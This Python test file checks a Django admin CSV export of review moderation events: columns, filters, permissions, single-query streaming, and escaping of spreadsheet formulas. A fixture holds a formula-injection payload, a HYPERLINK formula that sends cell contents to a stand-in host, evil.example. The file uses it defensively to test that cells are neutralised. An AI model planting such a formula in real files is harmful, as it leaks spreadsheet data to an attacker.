import csv
import io
import unicodedata
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given, settings
from hypothesis import strategies as st

from reviews.admin.history import harmless
from reviews.models import ModerationEvent
from reviews.moderation import decide
from tests.cast import make_article, make_review, make_user
from tests.reviews.desk import text

EVENTS = "/admin/reviews/moderationevent/"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
STARTS = "=+-@＝＋－＠"

pytestmark = pytest.mark.django_db


def export(client, query=""):
    """(the head, the rows) as a spreadsheet reads them."""
    response = client.get(f"{EVENTS}export/{query}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    head, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return head, [dict(zip(head, row, strict=True)) for row in rows]


def test_each_decision_is_a_row(client, moderator):
    review = make_review(make_article("Thé, “noir” et café"))
    decide(review.pk, "rejected", by=moderator, version=1, reason="other", note="It names,\na neighbour.")
    ModerationEvent.objects.update(at=datetime(2026, 3, 1, 12, 30, 5, tzinfo=UTC))
    head, rows = export(client)
    assert head == ["when", "who", "review", "article", "act", "from", "to", "reason", "note"]
    assert rows == [
        {
            "when": "2026-03-01 12:30:05+00:00",
            "who": "mo",
            "review": str(review.pk),
            "article": "Thé, “noir” et café",
            "act": "decision",
            "from": "waiting",
            "to": "rejected",
            "reason": "other (needs a sentence)",
            "note": "It names,\na neighbour.",
        }
    ]


def test_it_holds_what_the_list_shows_with_its_filters(client, moderator):
    article = make_article()
    for status in ("approved", "spam", "spam"):
        make_review(article, status)
    page = text(client.get(f"{EVENTS}?to_status__exact=spam"))
    assert f'href="{EVENTS}export/?to_status__exact=spam">Export as CSV' in page
    assert [row["to"] for row in export(client, "?to_status__exact=spam")[1]] == ["spam", "spam"]
    assert len(export(client)[1]) == 3


@pytest.mark.parametrize("query", ["?at__gte=x", "?e=1&to_status__exact=", "?review__token__startswith=a"])
def test_a_filter_that_is_none_is_no_error_of_ours(client, moderator, query):
    make_review(make_article(), "spam")
    assert client.get(f"{EVENTS}export/{query}").status_code in (200, 302, 400)


def test_a_formula_in_any_cell_is_only_text(client, moderator):
    mallory = make_user("mal", first_name="+1", last_name="Mallory")
    review = make_review(make_article(FORMULA, slug="evil"))
    decide(review.pk, "rejected", by=mallory, version=1, reason="other", note=f" \u200b{FORMULA}")
    _, [row] = export(client)
    assert (row["who"][:2], row["article"][:2], row["note"][:1]) == ("'+", "'=", "'")


@settings(derandomize=True, max_examples=300)
@given(
    st.text(st.sampled_from(f"{STARTS}'\"\t\r\n ;,ab1\u200b\u00a0\ufeff"), max_size=6) | st.text(max_size=20)
)
def test_no_cell_begins_as_a_formula_and_none_loses_a_sign(cell):
    safe = harmless(cell)
    assert safe in (cell, f"'{cell}")
    assert safe[:1] not in ("\t", "\r", "\n")
    assert not safe.lstrip(" \t\r\n\u00a0\u200b\ufeff").startswith(tuple(STARTS))
    if safe != cell:
        assert set(unicodedata.normalize("NFKC", cell)) & set("=+-@\t\r\n")


def test_it_is_for_those_who_may_see_decisions(client):
    make_review(make_article(), "spam")
    assert client.get(f"{EVENTS}export/").url.startswith("/admin/login/")
    user = make_user("ed", group="Editors")
    client.force_login(user)
    assert client.get(f"{EVENTS}export/").status_code == 403
    user.user_permissions.add(Permission.objects.get(codename="view_moderationevent"))
    assert len(export(client)[1]) == 1


def test_a_long_history_is_read_in_one_query(client, moderator):
    review = make_review(make_article())
    event = {
        "review": review,
        "by_name": "ann",
        "from_status": "approved",
        "to_status": "approved",
        "act": "kept",
    }
    ModerationEvent.objects.bulk_create(ModerationEvent(**event) for _ in range(5000))
    response = client.get(f"{EVENTS}export/")
    with CaptureQueriesContext(connection) as captured:
        assert sum(1 for _ in response.streaming_content) == 5001
    assert len(captured) <= 1
